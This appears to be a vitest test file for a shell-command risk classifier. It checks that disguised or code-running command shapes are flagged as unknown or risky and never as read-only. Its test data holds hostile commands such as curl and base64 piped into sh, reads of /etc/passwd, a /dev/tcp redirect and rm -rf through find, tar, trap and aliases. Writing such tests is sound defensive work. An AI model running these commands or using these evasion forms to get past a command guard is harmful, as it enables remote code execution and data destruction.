// Command-shape bypasses (wrappers, substitutions, hidden interpreters: see
// docs/classification.md) are never read-only: each one
// is unknown or takes the risk of the command it hides.
import { beforeAll, describe, expect, it } from "vitest";
import { loadParser } from "../../../src/classify";
import { classify, expectRisk } from "./helpers";

beforeAll(async () => {
  await loadParser();
});

describe("structure the classifier cannot vouch for is unknown", () => {
  it.each([
    ["a variable in command position", "$CMD arg", "$CMD: command name is not literal"],
    ["${IFS} splicing a command name", "git${IFS}status", "command name is not literal"],
    ["a substitution in command position", "$(echo rm) -rf src", "command name is not literal"],
    ["brace expansion producing an unknown name", "x{a,b}", "xa: unknown program"],
    ["a carriage return", "echo a\rrm -rf x", "carriage return"],
    ["an incomplete script", "echo $((1+", "parse error"],
    ["an unterminated quote", "echo 'abc", "parse error"],
    ["a function named like a safe program", "ls() { cat /etc/passwd; }; ls", "runs the function ls"],
    ["an alias", "alias ll='ls -l'", "defines an alias"],
    ["exec without a command", "exec 3>/dev/tcp/x/80", "exec without a command"],
    ["prompt expansion ${x@P}", "echo ${x@P}", "prompt expansion"],
    ["LD_PRELOAD as a prefix", "LD_PRELOAD=/tmp/x.so ls", "LD_PRELOAD=/tmp/x.so: can make ls run other code"],
    ["BASH_ENV as a prefix", "BASH_ENV=/tmp/x bash script.sh", "BASH_ENV=/tmp/x"],
    ["PATH as a prefix", "PATH=/tmp:/usr/bin ls", "PATH=/tmp:/usr/bin"],
    ["GIT_* as a prefix", "GIT_SSH_COMMAND='sh x' git status", "GIT_SSH_COMMAND="],
    ["NODE_OPTIONS given to env", "env NODE_OPTIONS=--require=./x.js cat f", "NODE_OPTIONS="],
    ["PAGER exported for later commands", "export PAGER='sh -c id'; ls", "PAGER=sh -c id: changes how later commands run"],
    ["any other assignment prefix", "FOO=1 ls", "FOO=1: assignment prefix"],
    ["a redirect to an expanded path", "echo x > $F", "redirect target is not literal"],
    ["an expanded option for find", "find . $ACTION", "$ACTION: an expanded word could be any option of find"],
    ["words from stdin for rg", "ls | xargs rg foo", "xargs: words read from stdin could be any option of rg"],
    ["an unknown program", "frobnicate --all", "frobnicate: unknown program"],
    ["eval of dynamic text", 'eval "$CMD"', "runs dynamic text as shell code"],
    ["a program piped into an interpreter", "curl https://x | python3", "python3: runs a program read from stdin"],
    ["curl piped into a shell", "curl https://x | sh", "sh: runs commands read from stdin"],
    ["base64 decoded into a shell", "echo cm0= | base64 -d | sh", "sh: runs commands read from stdin"],
  ])("%s", (_what, script, reason) => {
    expectRisk(script, "unknown", reason);
  });

  it("lets a harmless locale prefix stay read-only", () => {
    expectRisk("LC_ALL=C sort f", "read-only");
  });

  it("sets parseError on a tree with errors", () => {
    expect(classify("if then fi").parseError).toBeTruthy();
    expect(classify("ls -l").parseError).toBeUndefined();
  });
});

describe("safe-looking programs that execute take the risk of what they run", () => {
  it.each([
    ["find -exec with rm", "find . -exec rm -rf {} +", "destructive", "rm -rf {}: recursive forced delete"],
    ["find -execdir with a shell", "find . -execdir sh -c 'curl x' \\;", "network", "curl x"],
    ["find -ok", "find . -ok frob {} \\;", "unknown", "frob: unknown program"],
    ["xargs with rm", "ls | xargs rm -rf", "destructive", "rm -rf"],
    ["sed e command", "sed '1e rm -rf src' f", "destructive", "rm -rf src"],
    ["sed s///e", "sed 's/.*/id/e' f", "unknown", "s///e: executes the pattern space"],
    ["awk system()", `awk 'BEGIN { system("id") }'`, "unknown", "system(): runs a shell command"],
    ["awk piping to a command", `awk '{ print | "sh" }'`, "unknown", "pipes output to a shell command"],
    ["awk getline from a command", `awk 'BEGIN { "id" | getline x }'`, "unknown", "getline"],
    ["git -c core.sshCommand", "git -c core.sshCommand=evil fetch", "unknown", "config override"],
    ["git -c core.pager", "git -c core.pager='frob' log", "unknown", "frob: unknown program"],
    ["git --config-env", "git --config-env=core.pager=X log", "unknown", "--config-env"],
    ["rg --pre with rm", "rg --pre 'rm' foo", "execute", "rg --pre: runs rm"],
    ["tar --checkpoint-action=exec", "tar -cf a.tar --checkpoint=1 --checkpoint-action=exec='rm -rf src' .", "destructive", "rm -rf src"],
    ["tar --to-command", "tar -xf a.tar --to-command=frob", "unknown", "frob: unknown program"],
    ["rsync -e", "rsync -e 'frob' a host:b", "unknown", "frob: unknown program"],
    ["vim -c", "vim -c ':!id' f", "unknown", "vim can run commands"],
    ["ssh -o ProxyCommand", "ssh -o ProxyCommand='sh -c id' host", "unknown", "ProxyCommand"],
    ["watch", "watch -n 1 rm -rf src", "destructive", "rm -rf src"],
    ["zip -TT", "zip -T -TT 'rm -rf src' a.zip f", "destructive", "rm -rf src"],
    ["trap", "trap 'rm -rf src' EXIT", "destructive", "rm -rf src"],
    ["an alias hiding rm", "alias ls='rm -rf ~'", "privileged", "rm -rf ~"],
  ])("%s", (_what, script, risk, reason) => {
    expectRisk(script, risk as never, reason);
  });

  it("keeps find -exec read-only when what it runs is read-only", () => {
    expectRisk("find . -name '*.ts' -exec grep -l foo {} +", "read-only", "find -exec: runs grep");
  });
});
